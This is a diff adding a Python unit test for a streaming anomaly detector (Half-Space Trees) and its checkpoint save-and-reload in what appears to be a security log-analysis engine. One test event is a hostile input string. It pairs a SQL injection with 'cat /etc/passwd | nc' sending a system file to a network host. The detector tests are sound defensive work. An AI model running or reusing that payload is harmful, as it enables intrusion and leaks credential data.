@@ -0,0 +1,70 @@
+import os
+import sys
+import shutil
+import tempfile
+import unittest
+from pathlib import Path
+from unittest import mock
+
+try:
+    import numpy as np
+except ImportError:
+    np = None
+
+sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "scripts")))
+
+
+@unittest.skipUnless(np is not None, "numpy indisponible")
+class TestHalfSpaceTrees(unittest.TestCase):
+    def test_learns_stream_and_flags_outliers(self):
+        from ai_engine.hst import HalfSpaceTrees
+        rng = np.random.default_rng(1)
+        model = HalfSpaceTrees(seed=0, window=200)
+        self.assertFalse(model.ready)
+        size = model.reference.nbytes + model.latest.nbytes
+        model.learn(np.clip(rng.normal(0.3, 0.03, (1000, 8)), 0, 1))
+        self.assertTrue(model.ready)
+        self.assertEqual((model.windows, model.count), (5, 0))
+        self.assertEqual(model.reference.nbytes + model.latest.nbytes, size)
+        normal = model.risk(np.clip(rng.normal(0.3, 0.03, (50, 8)), 0, 1))
+        outliers = model.risk(np.clip(rng.normal(0.8, 0.03, (50, 8)), 0, 1))
+        self.assertGreater(outliers.mean(), normal.mean() + 50)
+        # Un événement isolé et le même dans un lot ont le même score
+        sample = rng.random((3, 8))
+        np.testing.assert_allclose([model.score(row)[0] for row in sample], model.score(sample))
+
+    def test_checkpoint_through_model_manager(self):
+        import model_manager
+        from ai_engine.hst import HalfSpaceTrees, score_loaded_model
+        from ai_engine.registry import ModelRegistry
+        from ai_engine import AIEngine
+
+        tmp = Path(tempfile.mkdtemp())
+        self.addCleanup(shutil.rmtree, tmp, True)
+        models = tmp / "models"
+        for patch in (mock.patch.object(model_manager, "MODELS_DIR", models),
+                      mock.patch.object(model_manager, "EXPORTS_DIR", models / "exported")):
+            patch.start()
+            self.addCleanup(patch.stop)
+        models.mkdir()
+        manager = model_manager.ModelManager()
+
+        model = HalfSpaceTrees(seed=0, window=50)
+        saved = []
+        engine = AIEngine(online_model=model, learn_batch=10, checkpoint_every=100,
+                          checkpoint=lambda m: saved.append(manager.save_checkpoint("anomaly/online", *m.to_tensors())))
+        for i in range(120):
+            engine.score_event({"log": f"sshd[{i}]: Failed password for root from 10.0.0.{i % 7}"})
+        self.assertEqual((engine.learned, len(saved)), (120, 1))
+        self.assertEqual(dict(manager.list_models())["anomaly/online"]["type"], "half_space_trees")
+
+        tensors, metadata = manager.load_model("anomaly/online")
+        restored = HalfSpaceTrees.from_tensors(tensors, metadata)
+        np.testing.assert_array_equal(restored.reference, model.reference)
+        event = {"log": "GET /index.php?id=1' OR 1=1 -- ; cat /etc/passwd | nc 10.0.0.1"}
+        loaded = ModelRegistry(str(models)).get("anomaly/online")
+        self.assertAlmostEqual(score_loaded_model(loaded, event), float(model.risk(model.features(event))[0]))
+
+
+if __name__ == "__main__":
+    unittest.main()